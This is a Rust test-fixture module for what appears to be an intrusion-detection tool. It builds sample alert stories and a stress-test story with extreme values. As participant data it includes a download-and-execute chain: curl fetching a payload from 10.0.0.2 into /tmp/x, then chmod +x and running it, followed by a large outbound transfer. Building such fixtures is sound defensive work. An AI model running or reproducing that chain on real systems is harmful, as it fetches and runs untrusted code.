//! What an alert says of its story.

use sigma::Level;
use uuid::Uuid;

use super::{MILLISECOND, alert, correlation, detection, id, place};
use crate::alert::{Action, Alert, Detection, Evidence, Participant, Stage, StageReached, Step, Story};
use crate::event::Direction;

fn evidence(title: &str, level: Level, milliseconds: u64, pid: u32) -> Evidence {
    Evidence {
        rule: detection().id,
        title: title.to_owned(),
        level,
        offset: milliseconds * MILLISECOND,
        pid,
        count: 1,
        correlation: None,
    }
}

fn participant(pid: u32, parent: Option<u32>, command_line: &str) -> Participant {
    let program = command_line.split(' ').next().unwrap_or_default().rsplit('/').next().unwrap_or_default();
    Participant { pid, parent, program: program.to_owned(), arguments: command_line.into() }
}

/// A lone download.
pub(super) fn story() -> Story {
    Story {
        id: id(),
        alerts: 1,
        stages: vec![StageReached { stage: Stage::BroughtIn, offset: 0 }],
        level: None,
        evidence: vec![evidence(&detection().title, Level::High, 0, 4242)],
        participants: vec![
            participant(4240, None, "sh -c curl -sSLo /tmp/x http://10.0.0.2/payload"),
            participant(4242, Some(4240), "curl -sSLo /tmp/x http://10.0.0.2/payload"),
        ],
        participants_omitted: 0,
    }
}

/// What was downloaded runs and calls home.
pub(crate) fn chain() -> Alert {
    let mut alert = alert();
    let step = |milliseconds, pid, program: &str, action| Step {
        offset: milliseconds * MILLISECOND,
        pid,
        program: program.to_owned(),
        action,
    };
    alert.steps.extend([
        step(40, 4243, "chmod", Action::MadeExecutable { path: "/tmp/x".to_owned() }),
        step(60, 4244, "x", Action::Executed { arguments: "/tmp/x --quiet".into() }),
        step(70, 4244, "x", Action::Connected { place: place(None), direction: Direction::Outbound }),
        step(
            900,
            4244,
            "x",
            Action::Disconnected { place: place(None), bytes_sent: 20_971_520, bytes_received: 600 },
        ),
    ]);
    let reached = |stage, milliseconds| StageReached { stage, offset: milliseconds * MILLISECOND };
    alert.level = Level::Critical;
    let second = "0d8b3e0e-5f6d-4c33-9d40-2a7b1b0d7e55";
    alert.related = vec![Detection {
        id: second.to_owned(),
        title: "A file that came in was run".to_owned(),
        ..detection()
    }];
    alert.story = Story {
        id: Uuid::from_u128(9),
        alerts: 2,
        stages: vec![reached(Stage::BroughtIn, 19), reached(Stage::Ran, 60), reached(Stage::CalledHome, 70)],
        level: Some(Level::Critical),
        evidence: vec![
            evidence(&detection().title, Level::High, 0, 4242),
            Evidence {
                rule: second.to_owned(),
                count: 3,
                ..evidence("A file that came in was run", Level::High, 60, 4244)
            },
        ],
        participants: vec![
            participant(4240, None, "sh -c /tmp/job"),
            participant(4242, Some(4240), "curl -sSLo /tmp/x http://10.0.0.2/payload"),
            participant(4243, Some(4240), "chmod +x /tmp/x"),
            participant(4244, Some(4240), "/tmp/x --quiet"),
            participant(4245, Some(4244), "id"),
        ],
        participants_omitted: 2,
    };
    alert
}

/// Every text as an attacker or a rule's author would like it.
pub(super) fn hostile(text: &str) -> Story {
    let proof = Evidence {
        rule: text.to_owned(),
        title: text.to_owned(),
        count: u64::MAX,
        offset: u64::MAX,
        correlation: Some(Box::new(correlation::hostile(text))),
        ..evidence("", Level::Critical, 0, u32::MAX)
    };
    let participant = |pid| Participant {
        pid,
        parent: pid.checked_sub(1),
        program: text.to_owned(),
        arguments: text.into(),
    };
    let every = [
        Stage::BroughtIn,
        Stage::Ran,
        Stage::ReadSecret,
        Stage::Collected,
        Stage::CalledHome,
        Stage::SentOut,
        Stage::CoveredTracks,
        Stage::Escaped,
        Stage::Destroyed,
    ];
    Story {
        alerts: u32::MAX,
        stages: every.map(|stage| StageReached { stage, offset: u64::MAX }).to_vec(),
        level: Some(Level::Critical),
        evidence: vec![proof; 32],
        participants: (0..24).map(participant).collect(),
        participants_omitted: u32::MAX,
        ..story()
    }
}
